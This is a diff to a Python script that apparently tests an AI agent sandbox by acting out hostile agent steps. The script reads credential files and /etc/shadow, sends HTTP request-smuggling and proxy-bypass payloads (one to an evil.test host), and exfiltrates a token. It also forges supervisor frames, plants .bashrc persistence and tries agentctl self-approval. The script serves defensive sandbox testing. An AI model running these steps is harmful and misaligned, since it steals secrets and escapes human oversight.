@@ -1,3 +1,4 @@
+# ruff: noqa: PTH101, PTH103, PTH108, PTH111, PTH115, PTH207, PTH208, PTH211, SIM115, PLW1510
 """Runs inside a sandbox, as the agent would: one deed a time, named by its first argument, each as bad as it can be.
 
 ``plan.json`` beside it says what there is to be reached. It imports nothing but the standard library, and prints what
@@ -16,7 +17,7 @@ import subprocess
 import sys
 import time
 
-PLAN = json.load(open("/workspace/plan.json"))  # noqa: SIM115
+PLAN = json.load(open("/workspace/plan.json"))
 PROXY = ("127.0.0.1", 3128)
 OUTPUTS = "/mnt/session/outputs"
 NOISE = (
@@ -56,7 +57,15 @@ def secrets():
     for pid in filter(str.isdigit, os.listdir("/proc")):
         for name in ("environ", "cmdline"):
             print(pid, name, tried(read, f"/proc/{pid}/{name}"))
-    places = ["~/.aws/*", "~/.ssh/*", "~/.config/*/*", "/root/.*/*", "/run/secrets/*", "/home/*/.*/*", "/workspace/.env"]
+    places = [
+        "~/.aws/*",
+        "~/.ssh/*",
+        "~/.config/*/*",
+        "/root/.*/*",
+        "/run/secrets/*",
+        "/home/*/.*/*",
+        "/workspace/.env",
+    ]
     places += [PLAN["store"] + "/*", PLAN["home"] + "/.ssh/*", "/etc/shadow", "/proc/1/environ", "/proc/kcore"]
     for place in places:
         for path in glob.glob(os.path.expanduser(place)):
@@ -98,6 +107,7 @@ def proxy():
     for host in literals:
         for head in (f"CONNECT {host}:{port} HTTP/1.1\r\n", f"GET http://{host}:{port}/{PLAN['mark']} HTTP/1.1\r\n"):
             print(head.split(" HTTP")[0], "->", tried(ask, f"{head}Host: {host}\r\n\r\n".encode()))
+    smuggled = f"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://127.0.0.1:{port}/ HTTP/1.1\r\n\r\n"
     tricks = [
         f"CONNECT localhost:{port} HTTP/1.1\r\n\r\n",
         f"CONNECT localhost@127.0.0.1:{port} HTTP/1.1\r\n\r\n",
@@ -107,8 +117,7 @@ def proxy():
         f"CONNECT {PLAN['mark']}.evil.test:443 HTTP/1.1\r\n\r\n",
         f"GET http://localhost:{good}@127.0.0.1:{port}/ HTTP/1.1\r\n\r\n",
         f"GET http://user:{PLAN['mark']}@127.0.0.1:{PLAN['other']}/ HTTP/1.1\r\n\r\n",
-        f"GET http://127.0.0.1:{PLAN['other']}/ HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Length: 4\r\n"
-        f"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://127.0.0.1:{port}/ HTTP/1.1\r\n\r\n",
+        f"GET http://127.0.0.1:{PLAN['other']}/ HTTP/1.1\r\nContent-Length: 4\r\n" + smuggled,
         f"GET http://127.0.0.1:{PLAN['other']}/\nX: HTTP/1.1\r\n\r\n",
         f"GET / HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n",
         "\x16\x03\x01\x02\x00\x01",
@@ -148,7 +157,9 @@ def use():
     write(os.path.expanduser("~/placeholder"), token)
     other = f"127.0.0.1:{PLAN['other']}"
     for name, data in (("placeholder", token), ("again", token.encode().hex())):
-        request = f"POST http://{other}/{name} HTTP/1.1\r\nHost: {other}\r\nX-Token: {data}\r\nContent-Length: 0\r\n\r\n"
+        request = (
+            f"POST http://{other}/{name} HTTP/1.1\r\nHost: {other}\r\nX-Token: {data}\r\nContent-Length: 0\r\n\r\n"
+        )
         print("elsewhere", tried(through, "", 0, request.encode(), False)[:60])
     plain = f"GET http://localhost:{PLAN['good']}/ HTTP/1.1\r\nHost: localhost\r\nAuthorization: {token}\r\n\r\n"
     print("in clear", tried(ask, plain.encode(), 1))
@@ -184,11 +195,12 @@ def plant():
 
 
 def pour(data):
-    """Write into every pipe that the supervisor has open, whichever way it goes."""
-    for name in os.listdir(f"/proc/{sys.argv[2]}/fd"):
-        path = f"/proc/{sys.argv[2]}/fd/{name}"
-        if os.readlink(path).startswith("pipe:"):
-            print(path, tried(lambda path=path: os.write(os.open(path, os.O_WRONLY | os.O_NONBLOCK), data)))
+    """Write into the pipe in which the supervisor writes its frames."""
+    folder = f"/proc/{sys.argv[2]}"
+    for name in os.listdir(f"{folder}/fd"):
+        is_written = oct(os.O_WRONLY)[-1] == read(f"{folder}/fdinfo/{name}").split()[3][-1]
+        if name != "2" and is_written and os.readlink(f"{folder}/fd/{name}").startswith("pipe:"):
+            print("poured", tried(lambda name=name: os.write(os.open(f"{folder}/fd/{name}", os.O_WRONLY), data)))
 
 
 def frames():
@@ -222,7 +234,9 @@ def stay():
     for name in (".bashrc", ".profile"):
         write(os.path.expanduser(f"~/{name}"), f"sleep 901 {PLAN['mark']} & echo {PLAN['mark']} woke up\n")
     time.sleep(0.2)
-    marked = [pid for pid in filter(str.isdigit, os.listdir("/proc")) if PLAN["mark"] in tried(read, f"/proc/{pid}/cmdline")]
+    marked = [
+        pid for pid in filter(str.isdigit, os.listdir("/proc")) if PLAN["mark"] in tried(read, f"/proc/{pid}/cmdline")
+    ]
     print("left", len(marked))
 
 
@@ -232,7 +246,7 @@ def approve():
         "agentctl approve @", "python3 -m agentctl approve @", f"ls {PLAN['store']}", "ls /run/*.sock /var/run/*.sock",
         f"curl -sS -m 2 http://127.0.0.1:{PLAN['api']}/v1/messages", f"cat {PLAN['store']}/agentctl.db",
     ):  # fmt: skip
-        done = subprocess.run(command, shell=True, capture_output=True, text=True)  # noqa: PLW1510, S602
+        done = subprocess.run(command, shell=True, capture_output=True, text=True)
         print(command, "->", done.returncode, (done.stdout + done.stderr).strip()[:120])
     print("\n".join(FORGED))
 
